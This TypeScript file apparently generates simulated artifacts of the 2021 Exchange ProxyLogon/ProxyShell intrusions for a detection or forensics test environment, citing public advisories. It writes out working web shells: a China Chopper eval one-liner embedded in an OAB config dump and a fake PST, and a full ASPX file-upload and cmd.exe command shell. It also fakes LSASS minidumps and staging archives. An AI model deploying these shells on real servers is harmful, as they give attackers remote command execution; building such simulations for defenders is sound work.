// Attack files written fresh from the public descriptions (no samples copied).
import type { Rng } from './rng.js';
import type { World } from './world.js';
import { buildZip } from './zip.js';

/** China Chopper one-liner as placed in the OAB ExternalUrl (Huntress census, research iocs.md §3.4; helsecert). */
export function chopperScript(key: string): string {
  return `<script language="JScript" runat="server">function Page_Load(){eval(Request["${key}"],"unsafe");}</script>`;
}

/**
 * CVE-2021-27065: ResetOABVirtualDirectory writes the OAB virtual directory's settings to a path the attacker
 * chose; the file is a property dump whose ExternalUrl carries the script (CISA AR21-084A describes these files
 * as OAB VD configuration with a China Chopper payload in ExternalUrl). Layout is our own rendering.
 */
export function oabConfigShell(w: World, key: string): string {
  const props: Array<[string, string]> = [
    ['Name', 'OAB (Default Web Site)'],
    ['PollInterval', '480'],
    ['OfflineAddressBooks', ''],
    ['RequireSSL', 'False'],
    ['BasicAuthentication', 'False'],
    ['WindowsAuthentication', 'True'],
    ['OAuthAuthentication', 'True'],
    ['MetabasePath', `IIS://${w.fqdn}/W3SVC/1/ROOT/OAB`],
    ['Path', 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB'],
    ['ExtendedProtectionTokenChecking', 'None'],
    ['ExtendedProtectionFlags', ''],
    ['ExtendedProtectionSPNList', ''],
    ['AdminDisplayVersion', `Version ${w.buildParts[0]}.${w.buildParts[1]} (Build ${w.buildParts[2]}.${w.buildParts[3]})`],
    ['Server', w.host],
    ['InternalUrl', `https://${w.fqdn.toLowerCase()}/OAB`],
    ['InternalAuthenticationMethods', 'WindowsIntegrated'],
    ['ExternalUrl', 'http://f/' + chopperScript(key)],
    ['ExternalAuthenticationMethods', 'WindowsIntegrated'],
    ['AdminDisplayName', ''],
    ['ExchangeVersion', '0.10 (14.0.100.0)'],
    ['DistinguishedName', `CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=${w.host},CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Contoso,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=contoso,DC=local`],
    ['Identity', `${w.host}\\OAB (Default Web Site)`],
    ['ObjectCategory', 'contoso.local/Configuration/Schema/ms-Exch-OAB-Virtual-Directory'],
    ['ObjectClass', 'top msExchVirtualDirectory msExchOABVirtualDirectory'],
    ['WhenChanged', '3/3/2021 6:59:17 AM'],
    ['OriginatingServer', `DC01.contoso.local`],
    ['IsValid', 'True'],
  ];
  return props.map(([k, v]) => k.padEnd(32) + ': ' + v).join('\r\n') + '\r\n';
}

/**
 * ProxyShell (CVE-2021-31207): New-MailboxExportRequest writes a PST whose draft item carries the payload,
 * pre-encoded so it reads as plain text in the file (PeterJson, ZDI); the file starts with the PST magic '!BDN'
 * (Huntress, HvS-Consulting IOCs; eval parameter names 'exec_code'/'orangenb' were seen by HvS).
 */
export function pstShell(r: Rng, key: string): Uint8Array {
  const head = Buffer.alloc(512);
  head.write('!BDN', 0, 'latin1');
  head.writeUInt32LE(r.u32(), 4); // header CRC
  head.write('SM', 8, 'latin1'); // client magic
  head.writeUInt16LE(23, 10); // Unicode PST
  head.writeUInt16LE(19, 12);
  for (let i = 14; i < 512; i++) head[i] = r.int(256);
  const filler = Buffer.alloc(6144);
  for (let i = 0; i < filler.length; i++) filler[i] = r.int(4) === 0 ? r.int(256) : 0;
  const payload = Buffer.from(`<%@ Page Language="Jscript"%>` + chopperScript(key), 'latin1');
  const tail = Buffer.alloc(2048);
  for (let i = 0; i < tail.length; i++) tail[i] = r.int(3) === 0 ? r.int(256) : 0;
  return Buffer.concat([head, filler, payload, tail]);
}

/** A plain upload + command shell (the generic kind every write-up lists; our own code). */
export function cmdShell(key: string): string {
  return [
    '<%@ Page Language="C#" %>',
    '<%@ Import Namespace="System.Diagnostics" %>',
    '<%@ Import Namespace="System.IO" %>',
    '<script runat="server">',
    'protected void Page_Load(object sender, EventArgs e) {',
    '  if (Request.Files.Count > 0) { Request.Files[0].SaveAs(Server.MapPath("~/" + Path.GetFileName(Request.Files[0].FileName))); }',
    `  string c = Request["${key}"];`,
    '  if (!String.IsNullOrEmpty(c)) {',
    '    ProcessStartInfo si = new ProcessStartInfo("cmd.exe", "/c " + c);',
    '    si.RedirectStandardOutput = true; si.UseShellExecute = false;',
    '    Process p = Process.Start(si);',
    '    Response.Write("<pre>" + Server.HtmlEncode(p.StandardOutput.ReadToEnd()) + "</pre>");',
    '  }',
    '}',
    '</script>',
    '',
  ].join('\r\n');
}

/** A minidump: 'MDMP' signature and version, then stream data (Microsoft HAFNIUM blog: LSASS dumps in Windows\Temp). */
export function minidump(r: Rng, size = 96 * 1024): Uint8Array {
  const b = Buffer.alloc(size);
  b.write('MDMP', 0, 'latin1');
  b.writeUInt32LE(0xa793, 4); // MINIDUMP_VERSION
  b.writeUInt32LE(16, 8); // NumberOfStreams
  b.writeUInt32LE(32, 12); // StreamDirectoryRva
  b.writeUInt32LE(r.u32(), 16); // CheckSum
  b.writeUInt32LE(1614754800, 20); // TimeDateStamp
  for (let i = 32; i < size; i++) b[i] = i % 7 === 0 ? r.int(256) : 0;
  b.write('lsass.exe', 4096, 'utf16le');
  return b;
}

/** A valid deflate zip of the given entries (staged data: Microsoft HAFNIUM blog, archives in C:\ProgramData). */
export function zipArchive(entries: Array<[string, Uint8Array]>): Uint8Array {
  return buildZip(entries.map(([name, data]) => ({ name, data, deflate: true })));
}
